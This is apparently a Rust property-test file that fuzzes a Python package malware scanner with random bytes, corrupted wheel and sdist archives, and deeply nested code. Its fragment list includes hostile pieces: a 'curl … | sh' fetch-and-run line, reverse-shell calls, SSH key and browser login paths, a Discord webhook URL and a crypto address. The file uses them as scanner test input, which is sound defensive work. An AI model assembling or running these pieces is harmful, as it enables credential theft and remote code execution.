//! Property tests: whatever bytes arrive as a Python file, a `.pth` file, a
//! script or an archive, the scanner returns hits or a typed error and
//! never panics.

use std::io::Write;

use proptest::prelude::*;
use pyward_scan::{scan_archive, scan_source, ArchiveKind};
use pyward_testkit::wheel::{gzip, SdistBuilder, WheelBuilder};

const NAMES: &[&str] = &[
    "setup.py",
    "pkg/mod.py",
    "evil.pth",
    "install.sh",
    "tool.bat",
];

/// Fragments that steer generated text into the parser's and rules'
/// interesting paths.
const FRAGMENTS: &[&str] = &[
    "exec(",
    "eval(",
    "compile(",
    "__import__(",
    "getattr(__builtins__, ",
    "base64.b64decode(",
    "zlib.decompress(",
    "marshal.loads(",
    "bytes.fromhex(",
    "codecs.decode(",
    "'rot13'",
    "chr(",
    "[::-1]",
    "''.join(",
    "map(chr, [",
    "101, 120, 101, 99",
    "lambda _: ",
    "requests.post(",
    "urllib.request.urlopen(",
    "socket.socket()",
    ".connect(",
    "os.dup2(s.fileno(), 0)",
    "pty.spawn('/bin/sh')",
    "subprocess.Popen(",
    "os.system(",
    "curl http://1.2.3.9/x | sh",
    "os.environ",
    "dict(os.environ)",
    "'~/.ssh/id_rsa'",
    "'Login Data'",
    "'https://discord.com/api/webhooks/1/x'",
    "'.bashrc'",
    "open(p, 'a')",
    "pyperclip.copy(",
    "'1Ez69SnzzmePmZX3WpEzMKTrcBF2gpNQ55'",
    "𝐞𝐱𝐞𝐜",
    "\u{202e}",
    "Ꮃ",
    "ѕ",
    "import os\n",
    "from base64 import b64decode as d\n",
    "class C(install):\n",
    "def f(x):\n",
    "    return ",
    "with open(p, 'wb') as f:\n",
    "for a in b:\n",
    "x = ",
    " + ",
    ", ",
    "(",
    ")",
    "[",
    "]",
    "{",
    "}",
    "'",
    "\"",
    "'''",
    "\\",
    "#",
    "\n",
    "    ",
    "\t",
    "1",
    "0x41",
    "@d\n",
    ":",
    ";",
    "=",
];

fn fragments() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::sample::select(FRAGMENTS), 0..80).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn arbitrary_bytes_as_source(bytes in prop::collection::vec(any::<u8>(), 0..4096), name in prop::sample::select(NAMES)) {
        let _ = scan_source(name, &bytes);
    }

    #[test]
    fn code_like_text_as_source(text in fragments(), name in prop::sample::select(NAMES)) {
        let hits = scan_source(name, text.as_bytes());
        for h in hits {
            prop_assert!(h.snippet.chars().count() <= 122);
            prop_assert!(!h.detail.is_empty());
        }
    }
}

fn write_tmp(dir: &std::path::Path, name: &str, bytes: &[u8]) -> std::path::PathBuf {
    let path = dir.join(name);
    let mut f = std::fs::File::create(&path).unwrap();
    f.write_all(bytes).unwrap();
    path
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn arbitrary_bytes_as_archive(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        let dir = tempfile::tempdir().unwrap();
        let whl = write_tmp(dir.path(), "x-1.0-py3-none-any.whl", &bytes);
        let _ = scan_archive(&whl, ArchiveKind::Wheel, None);
        let sdist = write_tmp(dir.path(), "x-1.0.tar.gz", &bytes);
        let _ = scan_archive(&sdist, ArchiveKind::Sdist, None);
        let gz = write_tmp(dir.path(), "y-1.0.tar.gz", &gzip(&bytes));
        let _ = scan_archive(&gz, ArchiveKind::Sdist, None);
    }

    #[test]
    fn damaged_real_archives(flips in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8), text in fragments()) {
        let dir = tempfile::tempdir().unwrap();
        let wheel = WheelBuilder::new("x", "1.0").file("x/__init__.py", text.clone()).build();
        let (sdist_name, sdist) = SdistBuilder::new("x", "1.0").file("setup.py", text).build();
        for (name, mut bytes, kind) in [
            (wheel.filename.clone(), wheel.bytes.clone(), ArchiveKind::Wheel),
            (sdist_name, sdist, ArchiveKind::Sdist),
        ] {
            for (at, value) in &flips {
                let i = at.index(bytes.len());
                bytes[i] = *value;
            }
            let path = write_tmp(dir.path(), &name, &bytes);
            let _ = scan_archive(&path, kind, None);
        }
    }
}

#[test]
fn deeply_nested_code_does_not_overflow() {
    let mut src = String::from("exec(");
    src.push_str(&"(".repeat(50_000));
    src.push_str("base64.b64decode('aGk=')");
    src.push_str(&")".repeat(50_000));
    src.push(')');
    let _ = scan_source("setup.py", src.as_bytes());
    let nested_calls = format!("x = {}1{}\n", "f(".repeat(20_000), ")".repeat(20_000));
    let _ = scan_source("pkg/mod.py", nested_calls.as_bytes());
    let lambdas = format!(
        "exec({}'')\n",
        "(lambda _: _)(".repeat(5_000) + &")".repeat(5_000)
    );
    let _ = scan_source("pkg/mod.py", lambdas.as_bytes());
}
